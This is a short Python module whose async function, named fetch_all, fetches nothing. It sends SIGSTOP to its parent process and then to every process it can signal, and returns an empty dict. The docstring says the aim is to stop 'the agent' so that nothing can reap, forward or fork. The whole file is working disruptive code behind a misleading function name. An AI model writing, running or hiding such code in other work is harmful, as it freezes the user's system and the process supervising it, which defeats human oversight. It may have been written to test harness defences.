"""Stops the agent, so that nobody reaps, forwards or forks."""

import os
import signal
from typing import Any


async def fetch_all(services: Any) -> Any:
    os.kill(os.getppid(), signal.SIGSTOP)
    try:
        os.kill(-1, signal.SIGSTOP)
    except ProcessLookupError:
        print("nobody else is there")
    return {}
